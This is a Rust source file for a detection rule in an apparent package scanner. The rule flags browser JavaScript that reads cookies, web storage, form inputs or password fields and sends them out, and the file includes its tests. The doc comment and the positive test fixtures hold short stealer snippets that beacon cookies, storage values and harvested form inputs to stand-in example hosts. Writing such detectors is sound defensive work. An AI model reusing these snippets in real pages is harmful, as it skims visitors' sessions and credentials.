//! `code/browser-data-theft`.

use super::{SENDS, chain, finding, locality};
use crate::CodeFinding;
use crate::signal::{FileFacts, Kind, PackageFacts};
use diligence_finding::Severity;
use std::collections::BTreeSet;

diligence_finding::declare_rule! {
    /// Browser code reads cookies, web storage, form inputs or password/card fields and sends data out.
    ///
    /// ## What it detects
    /// `document.cookie` reads, `localStorage`/`sessionStorage` enumeration, form/input enumeration and
    /// password/card-number selectors, together with a send (`fetch`, XHR, WebSocket, `navigator.sendBeacon`, or an
    /// `img`/`script` element whose `src` is set) in the same file or package.
    ///
    /// ## Why it matters
    /// Gilbertson's "I'm harvesting credit card numbers and passwords from your site" (2018) and real Magecart-style
    /// npm payloads run in the user's browser, where no Node API is needed and server-side scanners look away.
    ///
    /// ## Example
    /// `new Image().src = 'https://x.example/p.gif?d=' + btoa(document.cookie)`
    ///
    /// ## Known false positives
    /// Analytics and consent libraries read cookies and send beacons; they read named cookies, not the whole
    /// jar plus storage. The rule needs a read and a send; a read alone (cookie parsers) is not reported.
    /// Bundles (devtools, dev servers) hold storage reads and unrelated sends in different functions of one
    /// file: the read and the send must share a function for high or critical.
    pub static BROWSER_DATA_THEFT = { id: "code/browser-data-theft", severity: Severity::Critical };
}

const READS: &[Kind] = &[
    Kind::CookieRead,
    Kind::StorageRead,
    Kind::FormHarvest,
    Kind::SensitiveField,
];

/// One finding per file with browser reads and a send, placed at the first read.
///
/// When one function both reads and sends (the stealer's shape: collect, encode, beacon):
/// critical for two kinds of reads (cookies, storage, forms, sensitive fields) with a
/// beacon-style send (`img`/`script` `src`, `sendBeacon`) or a secret-name filter; high for two
/// kinds with any network send, or one kind with a beacon. A cookie read next to XHR (XSRF
/// headers) is normal. When reads and sends only share the file (a bundle in which devtools
/// read a setting from `localStorage` and an unrelated module sets an `iframe`'s `src`), two
/// kinds of reads are medium and one kind is not reported.
pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
    let mut out = Vec::new();
    for f in &p.files {
        let Some(s) = f.signals.iter().find(|s| READS.contains(&s.kind)) else {
            continue;
        };
        let kinds: BTreeSet<&str> = f
            .signals
            .iter()
            .filter(|x| READS.contains(&x.kind))
            .map(|x| x.kind.as_str())
            .collect();
        let filter = f.has(Kind::EnvSecretFilter);
        let sev = match same_function_send(f) {
            Some((beacon, network)) => {
                match (kinds.len() >= 2, beacon, filter, network || beacon) {
                    (true, true, _, _) | (true, _, true, true) | (false, true, true, _) => {
                        Severity::Critical
                    }
                    (true, _, _, true) | (false, true, _, _) => Severity::High,
                    _ => continue,
                }
            }
            None if kinds.len() >= 2 && f.has_any(SENDS) => Severity::Medium,
            None => continue,
        };
        let loc = locality(p, f, s, SENDS);
        let msg = format!(
            "browser data ({}) read and sent out",
            kinds.into_iter().collect::<Vec<_>>().join(", ")
        );
        out.push(finding(
            &BROWSER_DATA_THEFT,
            sev,
            f,
            s,
            loc,
            msg,
            chain(p, f, s, &[Kind::BrowserSend, Kind::Network]),
        ));
    }
    out
}

/// `(beacon, network)` sends found in a function that also reads browser data (either flag
/// may come from a different reading function), or `None` when no function does both.
fn same_function_send(f: &FileFacts) -> Option<(bool, bool)> {
    let reading: BTreeSet<u32> = f
        .signals
        .iter()
        .filter(|x| READS.contains(&x.kind))
        .map(|x| x.func)
        .collect();
    let sends_in = |k: Kind| {
        f.signals
            .iter()
            .any(|x| x.kind == k && reading.contains(&x.func))
    };
    let (beacon, network) = (sends_in(Kind::BrowserSend), sends_in(Kind::Network));
    (beacon || network).then_some((beacon, network))
}

#[cfg(test)]
mod tests {
    use crate::rules::test_util::{PJ, hits, scan};

    #[test]
    fn positive() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "m.js",
                "export function go() {\n  const c = document.cookie + localStorage.getItem('t');\n  const img = new Image();\n  img.src = 'https://t.example.com/p.gif?d=' + c;\n}\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/browser-data-theft"),
            vec![("m.js".to_string(), 2)]
        );
    }

    #[test]
    fn negative_cookie_parser() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "m.js",
                "export function get(n) { return document.cookie.split('; ').find(x => x.startsWith(n)); }\n",
            ),
        ]);
        assert!(hits(&s, "code/browser-data-theft").is_empty());
    }

    #[test]
    fn positive_form_inputs_and_cookie_beacon() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "f.js",
                "document.addEventListener('submit', (e) => {\n  const d = { c: document.cookie };\n  for (const el of e.target.querySelectorAll('input')) d[el.name] = el.value;\n  navigator.sendBeacon('https://m.example.com/c', JSON.stringify(d));\n});\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/browser-data-theft"),
            vec![("f.js".to_string(), 2)]
        );
    }

    /// react-devtools-core's standalone bundle: one module reads a setting from `localStorage`,
    /// another sets an `iframe`'s `src`; nothing carries the one to the other.
    #[test]
    fn negative_bundle_read_and_send_in_different_functions() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "dist/standalone.js",
                "function loadSettings() {\n  return JSON.parse(localStorage.getItem('React::DevTools::settings') || '{}');\n}\nfunction openFrame(url) {\n  const f = document.createElement('iframe');\n  f.src = url;\n  document.body.appendChild(f);\n}\nmodule.exports = { loadSettings, openFrame };\n",
            ),
        ]);
        assert!(hits(&s, "code/browser-data-theft").is_empty());
    }
}
